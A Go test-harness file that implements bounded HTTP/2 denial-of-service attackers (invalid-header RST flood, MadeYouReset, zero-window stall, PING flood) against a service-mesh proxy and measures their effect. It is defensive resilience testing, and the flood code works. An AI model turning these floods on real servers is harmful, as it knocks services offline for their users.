package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/weftmesh/weft/mesh/dataplane/transport"
)

// The raw HTTP/2 attackers, written with x/net's Framer. Each runs until
// its context ends or its frame budget is spent, whichever comes first,
// and opens a new connection when the proxy closes one (as an attacker
// would), at most maxAttackConns times.

// maxAttackConns bounds the connections one attacker opens in a window,
// and reconnectPause spaces them: the attacks measured here are floods
// within a connection, not a flood of new connections (whose cost, TLS
// handshakes above all, would dominate the figures of a proxy that
// closes the abusive connections quickly).
const (
	maxAttackConns = 5000
	reconnectPause = 100 * time.Millisecond
)

// h2Path says where a raw HTTP/2 attacker connects.
type h2Path int

const (
	// viaOutbound: plaintext h2c to the client proxy's outbound mapping,
	// as the local application (an unmeshed client of that proxy).
	viaOutbound h2Path = iota
	// viaPeer: mesh TLS to the server proxy's inbound port with the
	// attacker's mesh certificate and a transport header naming the
	// application's HTTP port, as a hostile meshed peer.
	viaPeer
)

// attackStats counts what an attacker did; its String goes into the
// report.
type attackStats struct {
	frames, conns, streams, dataBytes, extra atomic.Int64
	extraName                                string
}

func (s *attackStats) String() string {
	out := fmt.Sprintf("frames sent %d, connections opened %d", s.frames.Load(), s.conns.Load())
	if n := s.streams.Load(); n > 0 {
		out += fmt.Sprintf(", streams opened %d", n)
	}
	if n := s.dataBytes.Load(); n > 0 {
		out += fmt.Sprintf(", DATA bytes received %d", n)
	}
	if s.extraName != "" {
		out += fmt.Sprintf(", %s %d", s.extraName, s.extra.Load())
	}
	return out
}

// dialH2 opens an HTTP/2 connection along path, up to the client preface
// (not included). rcvBuf > 0 shrinks the socket's receive buffer, so that
// a client that does not read stops taking the proxy's output early.
func (e *attackEnv) dialH2(ctx context.Context, path h2Path, rcvBuf int) (net.Conn, error) {
	target := e.cH1
	if path == viaPeer {
		target = e.sIn
	}
	d := e.attackerDialer()
	if rcvBuf > 0 {
		// Before connect, so that the window the SYN announces is small.
		d.Control = func(_, _ string, rc syscall.RawConn) error {
			var serr error
			err := rc.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, rcvBuf)
			})
			return errors.Join(err, serr)
		}
	}
	raw, err := d.DialContext(ctx, "tcp", addr(target))
	if err != nil {
		return nil, err
	}
	if path == viaOutbound {
		return raw, nil
	}
	tc := tls.Client(raw, e.meshTLS("attacker", transport.ALPN))
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := tc.HandshakeContext(hctx); err != nil {
		raw.Close()
		return nil, err
	}
	if tc.ConnectionState().NegotiatedProtocol != transport.ALPN {
		raw.Close()
		return nil, fmt.Errorf("the server proxy did not accept ALPN %s", transport.ALPN)
	}
	hdr, err := transport.Header{Port: uint16(e.appHTTP), Protocol: transport.HTTP2, Name: e.webAuthority()}.Append(nil)
	if err != nil {
		raw.Close()
		return nil, err
	}
	if _, err := tc.Write(hdr); err != nil {
		raw.Close()
		return nil, err
	}
	return tc, nil
}

// headerBlock encodes a request's fields without indexing, so that the
// same bytes are valid on every stream of a connection.
func headerBlock(fields ...string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true})
	}
	return buf.Bytes()
}

func (e *attackEnv) requestBlock(path string, extra ...string) []byte {
	return headerBlock(append([]string{":method", "GET", ":scheme", "http", ":authority", e.webAuthority(), ":path", path}, extra...)...)
}

// attackLimits bound one attack phase: at most maxFrames HTTP/2 frames,
// spread over window (the attack's lead and the victims' measure); the
// phase's context ends it in any case.
type attackLimits struct {
	maxFrames int64
	window    time.Duration
}

// budget is an attack's frame allowance, shared by its connections and
// spread over its window: an attacker that runs ahead of total*elapsed/
// window waits, so that the attack lasts as long as the victims' measure.
type budget struct {
	left   atomic.Int64
	total  int64
	start  time.Time
	window time.Duration
}

func newBudget(lim attackLimits) *budget {
	b := &budget{total: lim.maxFrames, start: time.Now(), window: max(lim.window, time.Second)}
	b.left.Store(lim.maxFrames)
	return b
}

// take reserves n frames; false when the budget is spent.
func (b *budget) take(n int64) bool { return b.left.Add(-n) >= 0 }

// pace waits while more frames were taken than the schedule allows.
func (b *budget) pace(ctx context.Context) error {
	used := b.total - b.left.Load()
	due := time.Duration(float64(used) / float64(b.total) * float64(b.window))
	if ahead := due - time.Since(b.start); ahead > time.Millisecond {
		return sleepCtx(ctx, ahead)
	}
	return nil
}

// connLoop runs one attack connection after another until ctx ends, the
// budget is spent or maxAttackConns were opened. each returns when its
// connection failed (or the attack is over).
func connLoop(ctx context.Context, st *attackStats, b *budget, dial func() (net.Conn, error), each func(net.Conn) error) {
	for ctx.Err() == nil && b.left.Load() > 0 && st.conns.Load() < maxAttackConns {
		c, err := dial()
		if err != nil {
			if sleepCtx(ctx, 20*time.Millisecond) != nil {
				return
			}
			continue
		}
		st.conns.Add(1)
		stop := context.AfterFunc(ctx, func() { c.Close() })
		_ = each(c)
		stop()
		c.Close()
		if sleepCtx(ctx, reconnectPause) != nil {
			return
		}
	}
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

// Before a non-reading flood, the attacker jams the proxy's writer: it
// opens its windows wide and asks for fillStreams responses of fillBytes
// that it never reads, so the proxy's socket buffers fill and whatever the
// proxy answers next can only be queued. It then waits fillWait for the
// responses to arrive. No more than that: a bigger jam, repeated on every
// new connection, would load the victims' shared connections with
// downloads and measure those instead of the flood.
const (
	fillStreams = 1
	fillBytes   = 8 << 20 // twice Linux's largest default socket send buffer (tcp_wmem)
	fillWait    = 300 * time.Millisecond
)

// writeFlood writes frames made by next on c through a 64 KiB buffer,
// never reading, until an error, the budget or ctx ends. next writes
// its frames with fr and returns how many.
func writeFlood(ctx context.Context, e *attackEnv, c net.Conn, st *attackStats, b *budget, next func(fr *http2.Framer, id uint32) (int64, error)) error {
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, nil)
	fr.AllowIllegalWrites = true
	if _, err := io.WriteString(bw, http2.ClientPreface); err != nil {
		return err
	}
	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}); err != nil {
		return err
	}
	if err := fr.WriteWindowUpdate(0, 1<<31-1-65535); err != nil {
		return err
	}
	id := uint32(1)
	fill := e.requestBlock("/jam?bytes=" + strconv.Itoa(fillBytes))
	for range fillStreams {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fill, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		id += 2
	}
	st.frames.Add(2 + fillStreams)
	if err := bw.Flush(); err != nil {
		return err
	}
	if err := sleepCtx(ctx, fillWait); err != nil {
		return err
	}
	for i := 0; ctx.Err() == nil; i++ {
		if id > 1<<31-3 {
			return bw.Flush() // stream IDs exhausted: a new connection
		}
		n, err := next(fr, id)
		if err != nil {
			return err
		}
		if !b.take(n) {
			return bw.Flush()
		}
		st.frames.Add(n)
		st.streams.Add(1)
		id += 2
		if i%64 == 63 {
			if err := bw.Flush(); err != nil {
				return err
			}
			if err := b.pace(ctx); err != nil {
				return err
			}
		}
	}
	return bw.Flush()
}

// outputQueueAttack (finding 1): a client that never reads sends HEADERS
// with an invalid field value (a NUL byte) on stream after stream; the
// proxy answers each with RST_STREAM, which it can only queue.
func outputQueueAttack(path h2Path) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, lim attackLimits) string {
		st := &attackStats{}
		b := newBudget(lim)
		block := e.requestBlock("/attack/oq", "x-bad", "a\x00b")
		connLoop(ctx, st, b, func() (net.Conn, error) { return e.dialH2(ctx, path, 4096) }, func(c net.Conn) error {
			if dl, ok := ctx.Deadline(); ok {
				_ = c.SetWriteDeadline(dl)
			}
			return writeFlood(ctx, e, c, st, b, func(fr *http2.Framer, id uint32) (int64, error) {
				return 1, fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
			})
		})
		return st.String()
	}
}

// madeYouResetAttack (finding 2): a client that never reads sends a valid
// request on each stream, then WINDOW_UPDATE with increment 0 on it, a
// stream error the server answers with RST_STREAM. The request has
// already gone to the application.
func madeYouResetAttack(path h2Path) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, lim attackLimits) string {
		st := &attackStats{extraName: "requests that reached the application"}
		b := newBudget(lim)
		block := e.requestBlock("/attack/myr")
		before := e.appAttackReqs.Load()
		connLoop(ctx, st, b, func() (net.Conn, error) { return e.dialH2(ctx, path, 4096) }, func(c net.Conn) error {
			if dl, ok := ctx.Deadline(); ok {
				_ = c.SetWriteDeadline(dl)
			}
			return writeFlood(ctx, e, c, st, b, func(fr *http2.Framer, id uint32) (int64, error) {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
					return 0, err
				}
				return 2, fr.WriteWindowUpdate(id, 0)
			})
		})
		if e.remote {
			st.extraName = "" // the parent, which serves the application, counts them
		} else {
			st.extra.Store(e.appAttackReqs.Load() - before)
		}
		return st.String()
	}
}

// jamOnlyAttack is made-you-reset's control: the same client asks for the
// same response it never reads, then holds the connection for hold and
// sends nothing more. What it costs the victims is what a large unread
// download costs, without any flood.
func jamOnlyAttack(path h2Path, hold time.Duration) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, lim attackLimits) string {
		st := &attackStats{}
		b := newBudget(lim)
		connLoop(ctx, st, b, func() (net.Conn, error) { return e.dialH2(ctx, path, 4096) }, func(c net.Conn) error {
			if dl, ok := ctx.Deadline(); ok {
				_ = c.SetWriteDeadline(dl)
			}
			return writeFlood(ctx, e, c, st, b, func(*http2.Framer, uint32) (int64, error) {
				if err := sleepCtx(ctx, hold); err != nil {
					return 0, err
				}
				return 0, errStopped
			})
		})
		return st.String()
	}
}

// zeroWindowAttack (finding 3): a client advertising
// SETTINGS_INITIAL_WINDOW_SIZE 0 asks for streams large responses and
// never opens the windows; it reads (and answers SETTINGS and PING) so the
// connection stays healthy. A stream the proxy resets is asked for again.
func zeroWindowAttack(path h2Path, streams, size int) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, lim attackLimits) string {
		st := &attackStats{extraName: "streams reset by the proxy"}
		b := newBudget(lim)
		block := e.requestBlock("/attack/zw?bytes=" + strconv.Itoa(size))
		connLoop(ctx, st, b, func() (net.Conn, error) { return e.dialH2(ctx, path, 0) }, func(c net.Conn) error {
			var mu sync.Mutex
			bw := bufio.NewWriter(c)
			fr := http2.NewFramer(bw, c)
			write := func(f func() error) error {
				mu.Lock()
				defer mu.Unlock()
				if err := f(); err != nil {
					return err
				}
				st.frames.Add(1)
				return bw.Flush()
			}
			next := uint32(1)
			open := func() error {
				if !b.take(1) {
					return errStopped
				}
				id := next
				next += 2
				st.streams.Add(1)
				return write(func() error {
					return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
				})
			}
			err := write(func() error {
				if _, err := io.WriteString(bw, http2.ClientPreface); err != nil {
					return err
				}
				return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			})
			for i := 0; i < streams && err == nil; i++ {
				err = open()
			}
			for err == nil {
				var f http2.Frame
				f, err = fr.ReadFrame()
				if err != nil {
					break
				}
				switch f := f.(type) {
				case *http2.SettingsFrame:
					if !f.IsAck() {
						err = write(fr.WriteSettingsAck)
					}
				case *http2.PingFrame:
					if !f.IsAck() {
						err = write(func() error { return fr.WritePing(true, f.Data) })
					}
				case *http2.DataFrame:
					st.dataBytes.Add(int64(len(f.Data())))
				case *http2.RSTStreamFrame:
					st.extra.Add(1)
					err = open()
				case *http2.GoAwayFrame:
					err = errStopped
				}
			}
			return err
		})
		return st.String()
	}
}

// pingFloodAttack (finding 6): over mesh TLS, one PING per TLS record
// (each frame its own Write on the TLS connection); the acks are read and
// dropped.
func pingFloodAttack() func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, lim attackLimits) string {
		st := &attackStats{extraName: "PING acks received"}
		b := newBudget(lim)
		connLoop(ctx, st, b, func() (net.Conn, error) { return e.dialH2(ctx, viaPeer, 0) }, func(c net.Conn) error {
			readDone := make(chan struct{})
			go func() {
				defer close(readDone)
				fr := http2.NewFramer(io.Discard, c)
				for {
					f, err := fr.ReadFrame()
					if err != nil {
						return
					}
					if p, ok := f.(*http2.PingFrame); ok && p.IsAck() {
						st.extra.Add(1)
					}
				}
			}()
			defer func() { c.Close(); <-readDone }()
			fr := http2.NewFramer(c, nil)
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				return err
			}
			if err := fr.WriteSettings(); err != nil {
				return err
			}
			var data [8]byte
			for n := uint64(0); ctx.Err() == nil; n++ {
				if !b.take(1) {
					return errStopped
				}
				data[0], data[1], data[2], data[3] = byte(n>>24), byte(n>>16), byte(n>>8), byte(n)
				if err := fr.WritePing(false, data); err != nil {
					return err
				}
				st.frames.Add(1)
				if n%64 == 63 {
					if err := b.pace(ctx); err != nil {
						return err
					}
				}
			}
			return nil
		})
		return st.String()
	}
}
